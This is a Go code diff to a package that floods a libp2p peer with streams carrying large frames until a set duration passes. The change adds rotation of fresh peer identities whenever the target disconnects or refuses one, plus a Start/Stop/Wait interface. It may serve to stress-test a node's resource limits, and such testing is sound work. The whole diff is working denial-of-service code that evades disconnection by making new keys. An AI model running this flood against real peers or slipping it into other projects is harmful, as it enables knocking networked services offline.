@@ -12,6 +12,7 @@ import (
 
 	"github.com/libp2p/go-libp2p"
 	"github.com/libp2p/go-libp2p/core/host"
+	"github.com/libp2p/go-libp2p/core/network"
 	"github.com/libp2p/go-libp2p/core/peer"
 	p2pprotocol "github.com/libp2p/go-libp2p/core/protocol"
 	rcmgr "github.com/libp2p/go-libp2p/p2p/host/resource-manager"
@@ -40,6 +41,10 @@ type Config struct {
 	FrameSize int
 	// Duration bounds the attack (required).
 	Duration time.Duration
+	// Rotate replaces an identity the target disconnects (or refuses)
+	// with a fresh one, as an attacker who can make keys at will does;
+	// without it the attack keeps its Identities throughout.
+	Rotate bool
 	// StreamTimeout bounds one stream's write (a target that stops
 	// reading leaves it blocked on flow control); default 2 s.
 	StreamTimeout time.Duration
@@ -51,16 +56,25 @@ type Result struct {
 	Refused   int64 // streams the target refused to open (its resource limits)
 	Bytes     int64 // bytes written, frame headers and payloads
 	Completed int64 // first frames written whole (the target read or buffered them)
+	Fresh     int64 // identities made to replace ones the target dropped (Config.Rotate)
 }
 
 func (r Result) String() string {
-	return fmt.Sprintf("%d streams (%d refused at open), %d frames written whole, %.1f MiB sent",
-		r.Streams, r.Refused, r.Completed, float64(r.Bytes)/(1<<20))
+	return fmt.Sprintf("%d streams (%d refused at open), %d frames written whole, %.1f MiB sent, %d fresh identities",
+		r.Streams, r.Refused, r.Completed, float64(r.Bytes)/(1<<20), r.Fresh)
 }
 
-// Run runs the attack until cfg.Duration passes or ctx ends, then closes
-// its hosts. It fails only if no identity could connect to the target.
-func Run(ctx context.Context, cfg Config) (Result, error) {
+// Attack is an attack under way.
+type Attack struct {
+	res    counters
+	done   chan struct{}
+	cancel context.CancelFunc
+}
+
+// Start connects cfg.Identities fresh identities to the target and starts
+// flooding; the attack runs until cfg.Duration passes, ctx ends or Stop.
+// It fails if no identity could connect to the target.
+func Start(ctx context.Context, cfg Config) (*Attack, error) {
 	if cfg.Identities <= 0 {
 		cfg.Identities = 4
 	}
@@ -77,27 +91,34 @@ func Run(ctx context.Context, cfg Config) (Result, error) {
 		cfg.StreamTimeout = 2 * time.Second
 	}
 	if cfg.Duration <= 0 {
-		return Result{}, errors.New("attack: no duration")
+		return nil, errors.New("attack: no duration")
 	}
 	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
-	defer cancel()
-	payload := make([]byte, cfg.FrameSize)
-	var res counters
-	var wg sync.WaitGroup
-	var connected atomic.Int32
+	a := &Attack{done: make(chan struct{}), cancel: cancel}
+	var slots []*slot
 	var firstErr error
-	var errOnce sync.Once
 	for i := 0; i < cfg.Identities; i++ {
-		h, err := newHost()
+		sl, err := newSlot(ctx, cfg.Target)
 		if err != nil {
-			return Result{}, err
-		}
-		defer h.Close()
-		if err := h.Connect(ctx, cfg.Target); err != nil {
-			errOnce.Do(func() { firstErr = err })
+			firstErr = err
 			continue
 		}
-		connected.Add(1)
+		slots = append(slots, sl)
+	}
+	if len(slots) == 0 {
+		cancel()
+		return nil, fmt.Errorf("attack: no identity reached the target: %w", firstErr)
+	}
+	payload := make([]byte, cfg.FrameSize)
+	var wg sync.WaitGroup
+	for _, sl := range slots {
+		if cfg.Rotate {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				sl.rotate(ctx, cfg.Target, &a.res)
+			}()
+		}
 		for _, proto := range cfg.Protocols {
 			typ := wire.MsgHello
 			if proto == wire.ProtoPair {
@@ -109,28 +130,109 @@ func Run(ctx context.Context, cfg Config) (Result, error) {
 				wg.Add(1)
 				go func() {
 					defer wg.Done()
-					flood(ctx, h, cfg.Target.ID, proto, header, payload, cfg.StreamTimeout, &res)
+					flood(ctx, sl, cfg.Target.ID, proto, header, payload, cfg.StreamTimeout, &a.res)
 				}()
 			}
 		}
 	}
-	wg.Wait()
-	if connected.Load() == 0 {
-		return res.result(), fmt.Errorf("attack: no identity reached the target: %w", firstErr)
-	}
-	return res.result(), nil
+	go func() {
+		wg.Wait()
+		for _, sl := range slots {
+			(*sl.h.Load()).Close()
+		}
+		cancel()
+		close(a.done)
+	}()
+	return a, nil
 }
 
-type counters struct{ streams, refused, bytes, completed atomic.Int64 }
+// slot is one attacking identity, replaced by a fresh one when the target
+// disconnects it (Config.Rotate).
+type slot struct {
+	h atomic.Pointer[host.Host]
+}
+
+func newSlot(ctx context.Context, target peer.AddrInfo) (*slot, error) {
+	h, err := connectedHost(ctx, target)
+	if err != nil {
+		return nil, err
+	}
+	sl := &slot{}
+	sl.h.Store(&h)
+	return sl, nil
+}
+
+// connectedHost is a fresh identity connected to target.
+func connectedHost(ctx context.Context, target peer.AddrInfo) (host.Host, error) {
+	h, err := newHost()
+	if err != nil {
+		return nil, err
+	}
+	if err := h.Connect(ctx, target); err != nil {
+		h.Close()
+		return nil, err
+	}
+	return h, nil
+}
+
+// rotate replaces the slot's identity with a fresh, connected one each
+// time the target drops it, until ctx ends.
+func (sl *slot) rotate(ctx context.Context, target peer.AddrInfo, res *counters) {
+	tick := time.NewTicker(20 * time.Millisecond)
+	defer tick.Stop()
+	for {
+		select {
+		case <-ctx.Done():
+			return
+		case <-tick.C:
+		}
+		old := *sl.h.Load()
+		if old.Network().Connectedness(target.ID) == network.Connected {
+			continue
+		}
+		h, err := connectedHost(ctx, target)
+		if err != nil {
+			continue
+		}
+		res.identities.Add(1)
+		sl.h.Store(&h)
+		old.Close()
+	}
+}
+
+// Streams is the number of streams opened so far.
+func (a *Attack) Streams() int64 { return a.res.streams.Load() }
+
+// Stop ends the attack early; Wait still returns its result.
+func (a *Attack) Stop() { a.cancel() }
+
+// Wait waits for the attack to end and returns what it did.
+func (a *Attack) Wait() Result {
+	<-a.done
+	return a.res.result()
+}
+
+// Run is Start then Wait.
+func Run(ctx context.Context, cfg Config) (Result, error) {
+	a, err := Start(ctx, cfg)
+	if err != nil {
+		return Result{}, err
+	}
+	return a.Wait(), nil
+}
+
+type counters struct{ streams, refused, bytes, completed, identities atomic.Int64 }
 
 func (c *counters) result() Result {
-	return Result{Streams: c.streams.Load(), Refused: c.refused.Load(), Bytes: c.bytes.Load(), Completed: c.completed.Load()}
+	return Result{Streams: c.streams.Load(), Refused: c.refused.Load(), Bytes: c.bytes.Load(),
+		Completed: c.completed.Load(), Fresh: c.identities.Load()}
 }
 
 // flood opens streams of proto one after another until ctx ends, writing
 // on each the frame header and payload, then resetting it.
-func flood(ctx context.Context, h host.Host, target peer.ID, proto p2pprotocol.ID, header, payload []byte, timeout time.Duration, res *counters) {
+func flood(ctx context.Context, sl *slot, target peer.ID, proto p2pprotocol.ID, header, payload []byte, timeout time.Duration, res *counters) {
 	for ctx.Err() == nil {
+		h := *sl.h.Load()
 		s, err := h.NewStream(ctx, target, proto)
 		if err != nil {
 			res.refused.Add(1)
@@ -138,7 +240,7 @@ func flood(ctx context.Context, h host.Host, target peer.ID, proto p2pprotocol.I
 			// not in a busy loop.
 			select {
 			case <-ctx.Done():
-			case <-time.After(10 * time.Millisecond):
+			case <-time.After(100 * time.Millisecond):
 			}
 			continue
 		}
